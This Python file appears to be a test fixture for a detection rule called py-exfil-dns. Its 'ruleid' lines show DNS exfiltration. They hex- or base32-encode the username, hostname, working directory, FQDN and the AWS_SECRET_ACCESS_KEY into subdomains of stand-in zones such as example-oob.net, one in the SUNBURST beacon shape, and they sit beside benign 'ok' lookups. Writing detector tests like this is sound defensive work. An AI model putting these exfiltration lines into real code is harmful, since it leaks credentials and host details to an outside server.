"""Fixture for py-exfil-dns.

RULEID: hex-encoded username in a subdomain, hostname+cwd in an f-string name, base64 of env,
a label-sized slice of the encoded FQDN (SUNBURST), a slice of the hostname concatenated.
OK: resolving a configured host, resolving a service name built from a namespace setting,
a slice of a non-host value in a name.
"""
import base64
import getpass
import os
import socket

import dns.resolver

ZONE = "t.example-oob.net"
data = getpass.getuser().encode().hex()
# ruleid: py-exfil-dns
socket.gethostbyname(f"{getpass.getuser().encode().hex()}.{ZONE}")
# ruleid: py-exfil-dns
socket.getaddrinfo(f"{socket.gethostname()}.{os.getcwd().replace('/', '-')}.{ZONE}", 53)
# ruleid: py-exfil-dns
dns.resolver.resolve(base64.b32encode(os.environ["AWS_SECRET_ACCESS_KEY"].encode()).decode() + ".x.example-oob.net", "A")


def discover(settings):
    # ok: py-exfil-dns
    socket.gethostbyname(settings.db_host)
    # ok: py-exfil-dns
    socket.getaddrinfo(f"{settings.service}.{settings.namespace}.svc.cluster.local", 443)


def beacon(zone):
    # The data is encoded once and sliced into label-sized pieces (SUNBURST shape).
    victim = base64.b32encode(socket.getfqdn().encode()).decode().rstrip("=").lower()
    # ruleid: py-exfil-dns
    socket.gethostbyname(f"{victim[:32]}.{zone}")
    host = socket.gethostname()
    # ruleid: py-exfil-dns
    dns.resolver.resolve(host[4:] + "." + zone, "TXT")


def chunks(records, zone):
    label = records.cache_key()
    # ok: py-exfil-dns
    socket.gethostbyname(f"{label[:32]}.{zone}")
